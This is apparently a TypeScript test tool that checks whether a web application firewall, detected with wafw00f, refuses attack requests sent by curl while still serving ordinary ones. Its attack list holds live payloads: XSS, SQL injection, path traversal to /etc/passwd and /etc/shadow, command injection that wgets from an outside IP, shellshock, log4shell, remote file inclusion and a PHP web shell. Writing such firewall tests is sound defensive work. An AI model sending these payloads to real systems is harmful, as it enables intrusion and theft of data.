// wafw00f, and attacks of our own choice sent by curl: the firewall of the web servers refuses them, and refuses nothing else.
import { type JudgeContext, outputOf, type Tool } from '../tool.ts'

/** Requests that must be refused with 403. */
export const attacks: readonly (readonly [name: string, curl: string])[] = [
  ['script in a parameter', `-G --data-urlencode 'q=<script>alert(1)</script>' URL/`],
  ['script in a header', `-H 'Referer: https://example.org/<script>alert(document.cookie)</script>' URL/`],
  ['event handler', `-G --data-urlencode 'q=<img src=x onerror=alert(1)>' URL/`],
  ['SQL: always true', `-G --data-urlencode "id=1' OR '1'='1" URL/notes`],
  ['SQL: union', `-G --data-urlencode 'id=-1 UNION SELECT user, authentication_string FROM mysql.user -- ' URL/notes`],
  ['SQL: time', `-G --data-urlencode "id=1' AND SLEEP(5) AND '1'='1" URL/notes`],
  ['SQL in a body', `--data-urlencode "text=x'; DROP TABLE notes; --" URL/notes`],
  ['path upwards', `-G --data-urlencode 'file=../../../../etc/passwd' URL/`],
  ['path upwards, encoded', `-G -d 'file=..%2f..%2f..%2fetc%2fpasswd' URL/`],
  ['file of the system', `-G --data-urlencode 'file=/etc/shadow' URL/`],
  ['command', `-G --data-urlencode 'host=127.0.0.1; cat /etc/passwd' URL/`],
  ['command in backticks', "-G --data-urlencode 'host=`wget http://203.0.113.1/x -O /tmp/x`' URL/"],
  ['shellshock', `-H 'User-Agent: () { :; }; /bin/bash -c "cat /etc/passwd"' URL/`],
  ['log4shell', `-G --data-urlencode 'q=\${jndi:ldap://203.0.113.1/a}' URL/`],
  ['log4shell in a header', `-H 'X-Api-Version: \${jndi:ldap://203.0.113.1/a}' URL/`],
  ['remote file', `-G --data-urlencode 'page=http://203.0.113.1/shell.txt?' URL/`],
  ['PHP', `--data-urlencode 'code=<?php system($_GET["c"]); ?>' URL/notes`],
  ['Java', `-G --data-urlencode 'c=java.lang.Runtime.getRuntime().exec("id")' URL/`],
  ['prototype of Node', `-G --data-urlencode 'a=constructor.prototype.polluted' -d '__proto__[x]=1' URL/`],
  ['scanner', `-A 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)' URL/`],
  ['file of the web server', 'URL/.htaccess'],
]

/** Requests that must be served. */
export const visits: readonly (readonly [name: string, curl: string])[] = [
  ['home page', 'URL/'],
  ['static file', 'URL/static/site.css'],
  ['notes', 'URL/notes'],
  ['a note', `-d 'text=Hello+world' URL/notes`],
  ['a note with an apostrophe', `--data-urlencode "text=It's Ann & Bob's 2nd note: 50 % off, select one" URL/notes`],
  ['a query', `-G --data-urlencode 'q=where to eat in Vienna?' URL/`],
  [
    'a browser',
    `-A 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0' -H 'Accept-Language: de-AT,de;q=0.8' URL/`,
  ],
]

export const wafw00f: Tool = {
  name: 'wafw00f',
  title: 'Attacks on the application',
  goal: `wafw00f finds a firewall; ${attacks.length} attacks are answered with 403 (what is not is explained) and ${visits.length} ordinary requests with 200.`,
  packages: ['wafw00f', 'curl'],
  run: async (context) => {
    const { site, asStranger } = context
    const script = `rm -f /root/waf.json
wafw00f -o /root/waf.json -f json https://${site.visitor.domain}/ >/root/waf.log 2>&1 || true
cat /root/waf.json`
    const { detected, name } = parseWafw00f(outputOf(await asStranger(script, 180_000)))
    const refused = await statusesOf(context, attacks)
    const served = await statusesOf(context, visits)
    const letThrough = refused.filter(({ status }) => status !== '403')
    const turnedAway = served.filter(({ status }) => status !== '200')
    return {
      figures: [
        { name: 'wafw00f', value: detected ? name : 'no firewall found' },
        { name: 'attacks refused', value: `${refused.length - letThrough.length} of ${refused.length}` },
        { name: 'ordinary requests served', value: `${served.length - turnedAway.length} of ${served.length}` },
      ],
      complaints: [
        ...(detected ? [] : ['wafw00f finds no firewall']),
        ...turnedAway.map((one) => `ordinary request "${one.name}" was answered with ${one.status}`),
      ],
      findings: letThrough.map(({ name: id, status }) => ({ id, says: `answered with ${status}`, hosts: [] })),
    }
  },
}

async function statusesOf({ site, asStranger }: JudgeContext, requests: readonly (readonly [string, string])[]) {
  const url = `https://${site.visitor.domain}`
  const script = requests
    .map(
      ([, options]) => `curl -sk -o /dev/null -m 15 --path-as-is -w '%{http_code}\\n' ${options.replace('URL', url)}`,
    )
    .join(' || true\n')
  const statuses = outputOf(await asStranger(`${script} || true`, 300_000))
    .trim()
    .split('\n')
  return requests.map(([name], index) => ({ name, status: statuses[index] ?? 'nothing' }))
}

/** wafw00f's JSON: a list with one entry a URL. */
export function parseWafw00f(text: string): { detected: boolean; name: string } {
  const [entry] = JSON.parse(text) as { detected: boolean; firewall: string; manufacturer: string }[] // its own format
  if (!entry) throw new Error('wafw00f reached no site')
  return { detected: entry.detected, name: `${entry.firewall} (${entry.manufacturer})` }
}
